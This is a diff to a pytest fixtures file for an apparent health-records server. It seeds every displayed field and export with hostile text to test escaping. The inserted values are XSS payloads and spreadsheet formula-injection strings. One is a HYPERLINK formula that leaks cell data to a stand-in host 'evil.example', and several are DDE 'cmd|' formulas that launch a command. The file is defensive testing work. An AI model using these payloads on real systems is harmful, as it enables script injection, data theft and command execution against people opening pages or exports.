@@ -230,3 +230,70 @@ def seeded(request, tmp_path_factory):
     app = make_app(request.param, tmp_path_factory)
     yield seed(app, request.param)
     dispose(app)
+
+
+# -- hostile text in every displayed field ---------------------------------------------------------
+
+XSS = ["<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "javascript:alert(1)",
+       "</textarea><script>alert(1)</script>", "{{7*7}}", "</script><img src=x onerror=alert(1)>",
+       "'-alert(1)-'", "<svg onload=alert(1)>"]
+FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"klik")', "+1+cmd|' /C calc'!A0",
+            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1",
+            "\uff1d1+1"]
+HOSTILE = XSS + FORMULAS
+
+
+def add_hostile(s: Seeded) -> dict:
+    """Store hostile text in every field the pages and exports show; return what was stored."""
+    from server.cli import create_user
+    from server.extensions import db
+
+    c, stored = s.callers, {}
+    for i, text in enumerate(HOSTILE):
+        p = person("PSY-A1", name=f"Anak {text}", mother_name=f"Ibu {text}", address=text,
+                   notes=text, birth_date="2025-06-10")
+        assert c["kader_a1"].push_ok("person", p)["status"] == "applied", text
+        v = child_visit(p, visit_date="2026-10-12", notes=text)
+        assert c["kader_a1"].push_ok("child_visit", v)["status"] == "applied", text
+        stored[f"person-{i}"] = p["id"]
+    # A conflict whose two values are hostile (conflict page and its downloads).
+    p = person("PSY-A1", name="Anak Konflik")
+    c["kader_a1"].push_ok("person", p)
+    _make_conflict(c["kader_a1"], c["bidan_a"], p["id"], f"Anak {XSS[1]}", f"Anak {FORMULAS[0]}")
+    # Posyandu names through the registry (admin), a hostile posyandu and a renamed one.
+    for fid, name in (("PSY-A1", f"Posyandu {XSS[0]}"), ("PSY-A9", f"Posyandu {XSS[1]}")):
+        facility = {"id": fid, "code": fid, "name": name, "kind": "posyandu",
+                    "parent_id": "PKM-A", "desa_code": "6111012001",
+                    "kecamatan_code": "611101", "wilayah_kerja": []}
+        base = s.record(fid)
+        result = c["admin"].push_ok("facility", facility,
+                                    base_version=base[1] if base else None)
+        assert result["status"] == "applied", result
+    # Lokmin meeting and agreement texts (kecamatan A).
+    m = {"id": new_id(), "kecamatan_code": "611101", "kind": "tribulanan_rutin", "year": 2026,
+         "quarter": 4, "meeting_date": "2026-10-20", "status": "held", "venue": XSS[1],
+         "chair_name": XSS[0], "agenda": FORMULAS[0],
+         "attendance": [{"name": XSS[2], "sector": "pkk", "institution": FORMULAS[3]}],
+         "problems": [{"description": XSS[3]}]}
+    assert c["kec_a"].push_ok("lokmin_meeting", m)["status"] == "applied"
+    a = {"id": new_id(), "meeting_id": m["id"], "kecamatan_code": "611101",
+         "action": XSS[5], "sector": "pkk", "pic_name": FORMULAS[1], "pic_role": XSS[4],
+         "success_indicator": XSS[6], "progress_note": FORMULAS[2],
+         "due_date": "2026-11-01", "status": "in_progress"}
+    assert c["kec_a"].push_ok("lokmin_agreement", a)["status"] == "applied"
+    # A user's display name and a device name.
+    with s.app.app_context():
+        create_user("kader_x", f"Kader {XSS[1]}", "kader", "PSY-A1", world_mod.PASSWORD)
+        db.session.commit()
+    Caller(s.app.test_client(), "kader_x", device_name=f"HP {XSS[7]} {FORMULAS[0]}")
+    return stored
+
+
+@pytest.fixture(scope="module", params=BACKENDS)
+def hostile(request, tmp_path_factory):
+    """A seeded server whose displayed text fields hold script, markup and formulas."""
+    app = make_app(request.param, tmp_path_factory)
+    s = seed(app, request.param)
+    add_hostile(s)
+    yield s
+    dispose(app)
